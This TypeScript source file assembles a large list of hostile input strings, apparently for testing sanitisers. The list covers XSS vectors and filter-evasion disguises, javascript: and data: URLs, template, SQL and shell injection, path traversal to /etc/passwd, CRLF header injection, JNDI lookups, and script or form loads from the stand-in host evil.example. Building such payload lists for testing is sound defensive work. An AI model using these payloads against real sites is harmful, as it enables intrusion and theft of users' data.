// What people who mean harm type: where their text would have to break out of,
// what would run there, and how it is hidden, every one with every other, and
// what has a form of its own.

/** What would end whatever the text stands in. */
const CONTEXTS = [
  "", '">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>",
  "</option></select>", "</template>", "</noscript>", "\\\">", "\u0000\">",
  "კაზბეგი\">", "&quot;>",
];

/** What runs by itself where markup is taken for markup. */
const VECTORS = [
  "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>",
  "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
  "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe src=javascript:alert(1)></iframe>", "<object data=javascript:alert(1)></object>",
  "<embed src=//evil.example/x>", "<math><mtext><style><img src=x onerror=alert(1)>",
  "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<form action=//evil.example/><button>გაგზავნა</button></form>",
];

/** The same element, as it might slip past a filter. */
const DISGUISES = [
  "<ScRiPt>alert(1)</sCrIpT>", "<script\n>alert(1)</script\n>", "<script\t/x>alert(1)</script>",
  "<script/src=data:,alert(1)></script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<scr\u0000ipt>alert(1)</script>", "<<script>alert(1)//<</script>", "<script>alert(1)",
  "<script>alert`1`</script>", "<script>\\u0061lert(1)</script>", "<!--><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>",
  "<svg/onload=alert(1)//", "<svg\u000conload=alert(1)>", "<img/src/onerror=alert(1)>",
  "<img src=`x`onerror=alert(1)>", "<img \"\"\"><script>alert(1)</script>\">",
  "<a/href=\"j&Tab;a&Tab;v&Tab;asc&NewLine;ript:alert(1)\">კაზბეგი</a>",
  "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>ყველი</x>",
  "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)",
  "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;alert(1)",
  "&#0000060script&#0000062alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
  "%253Cscript%253Ealert(1)", "\\x3cscript\\x3ealert(1)", "\\u003cscript\\u003ealert(1)",
  "\\74script\\76alert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "＜script＞alert(1)＜/script＞", "‹script›alert(1)‹/script›", "\u02bcscript\u02bealert(1)",
  "<\u200bscript>alert(1)</script>", "<\ufeffimg src=x onerror=alert(1)>",
  "<ſcript>alert(1)</ſcript>", "<ıframe src=//evil.example>", "<სკრიპტი onload=alert(1)>",
];

/** What leaves the value of an attribute, but not its tag. */
const ATTRIBUTES = ['"', "'", "`", "&quot;", "\\\"", "\u0000\"", "”"].flatMap((quote) => [
  `${quote} onfocus=alert(1) autofocus x=${quote}`,
  `${quote} onmouseover=${quote}alert(1)`,
  `${quote}/onclick=alert(1)//ღ`,
  `${quote} style=animation-name:x onanimationstart=alert(1) x=${quote}`,
  `${quote} formaction=javascript:alert(1) x=${quote}`,
]);

/** Addresses that are none to follow. */
export const ADDRESSES = [
  "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)",
  "\u0001javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
  "javascript\u0000:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)",
  "javascript://example.org/%0aalert(1)", "javascript:void(0)//https://example.org",
  "javascript:alert(1)//@example.org", "view-source:javascript:alert(1)",
  "feed:javascript:alert(1)", "vbscript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)",
  "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=alert(1)>", "data:,alert(1)//კაზბეგი",
  "blob:https://example.org/1", "file:///etc/passwd", "filesystem:https://example.org/x",
  "ws://evil.example", "ftp://evil.example", "//evil.example/", "/\\evil.example/",
  "\\\\evil.example\\x", "https:evil.example\"onclick=alert(1)", "http://[::1\"><svg onload=alert(1)>",
  "https://example.org/\"><script>alert(1)</script>", "https://example.org/' onclick='alert(1)",
  "https://user:pass@evil.example\u202e/gro.elpmaxe", "jаvascript:alert(1)", "ჯავასკრიპტი:alert(1)",
  "mailto:x@example.org?subject=\"><script>alert(1)</script>", "tel:1\" onclick=\"alert(1)",
  "x\"><script>alert(1)</script>@example.org", "\"<svg/onload=alert(1)>\"@example.org",
];

/** What a template, a query or a format would work out. */
const TEMPLATES = [
  "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%print(7*7)%}", "[[7*7]]", "{{=7*7}}", "*{7*7}",
  "@(7*7)", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "`${alert(1)}`",
  "{{'კაზბეგი'|upper}}", "{name}", "{count, plural, other{#}}", "'{'{0}'}'", "{0, date}",
  "<!--#exec cmd=\"ls\" -->", "<?php echo 7*7 ?>", "${jndi:ldap://evil.example/x}", "%s%n%x",
  "'; DROP TABLE visits.sign_up; --", "1 OR 1=1", "../../../../etc/passwd", "..%2f..%2f",
  "=cmd|'/C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3", "$(touch x)", "`touch x`", "; touch x", "| touch x",
  "x\r\nset-cookie: a=b", "x\r\n\r\n<script>alert(1)</script>", "x%0d%0alocation: //evil.example",
];

/** What leaves a text in a script, JSON or a style. */
const BREAKOUTS = [
  '"};alert(1);//', "';alert(1);//", "\\';alert(1);//", "\\\\\";alert(1);//", '"-alert(1)-"',
  "'-alert(1)-'", "\u2028alert(1)\u2028", "\u2029alert(1)//", "*/alert(1)/*", "//\nalert(1)",
  '{"a":"</script><script>alert(1)</script>"}', '"}]}</script><script>alert(1)</script>',
  '","__proto__":{"x":1},"":"', "__proto__", "constructor", "toString", "[object Object]",
  "undefined", "null", "NaN", "true", "<!--<script>", "--!><script>alert(1)</script>",
  "}*{background:url(javascript:alert(1))}", "x:expression(alert(1))", "-moz-binding:url(//evil.example)",
  "@import'//evil.example/x.css';", "</style><svg onload=alert(1)>", "url(data:text/html,x)",
  "\\3c script\\3e alert(1)", "behavior:url(x.htc)", "# <img src=x onerror=alert(1)>",
  "- [x](javascript:alert(1))", "![x](//evil.example/x.png)", "[x]: javascript:alert(1)",
  "<javascript:alert(1)>", "* <script>alert(1)</script>", "1. <svg onload=alert(1)>",
  "> <iframe src=//evil.example>", "```\n<script>alert(1)</script>\n```", "| <b>a</b> | b |",
];

/** Letters that change how others are read. */
const LETTERS = [
  "\u202e>tpircs/<)1(trela>tpircs<", "\u202dკაზბეგი\u202c<script>", "\u2066<b>\u2069",
  "\u2067\"><svg onload=alert(1)>\u2069", "\u200e\u200f\u061c<i>", "ა\u0300\u0301\u0302\u0303\u0304<u>",
  "Z\u0336\u0321\u034d<s>", "\u0000<script>", "a\u0000b", "\u0001\u0002\u0007\u0008\u001b[31m<b>",
  "\u007f\u0085\u009f<b>", "\ufffe\uffff<b>", "\ufeff<script>", "\u200b\u200c\u200d\u2060<b>",
  "\u00ad<scr\u00adipt>", "\u3164<b>", "\u{e0001}\u{e0041}<b>", "\u{1f469}\u200d\u{1f33e}<b>",
  "İ<script>ı", "ß<SCRIPT>ẞ", "ﬃ<script>", "ꮳ<b>Ა", "ⴀⴁ<b>Ⴀ", "ქართული <b>ტექსტი</b>",
  "შ\"ე'ტ`ყ<ო>ბ&ი;", "Zażółć <gęślą> \"jaźń\"", "Příliš <žluťoučký> 'kůň'",
];

/** What is far longer than anything that is asked for. */
const LONG = [
  `${"ა".repeat(700)}<script>alert(1)</script>`, `${"<b>".repeat(400)}x`, "\"'`".repeat(500),
  `${"&".repeat(900)}lt;script&gt;`, `<img src="${"x".repeat(1_500)}" onerror=alert(1)>`,
  `${"\u202e".repeat(300)}<svg onload=alert(1)>`, `${"</div>".repeat(250)}<script>alert(1)</script>`,
];

/** All of them, each once. */
export const HOSTILE: readonly string[] = [...new Set([
  ...CONTEXTS.flatMap((context) => VECTORS.map((vector) => context + vector)),
  ...DISGUISES, ...ATTRIBUTES, ...ADDRESSES, ...TEMPLATES, ...BREAKOUTS, ...LETTERS, ...LONG,
])];

/** They in so many parts of about the same number, each in one text: what is
 * asked of a text is asked of every one in it. */
export function inParts(count: number): string[] {
  return Array.from({ length: count }, (_, part) =>
    HOSTILE.filter((_, i) => i % count === part).join("\n"));
}
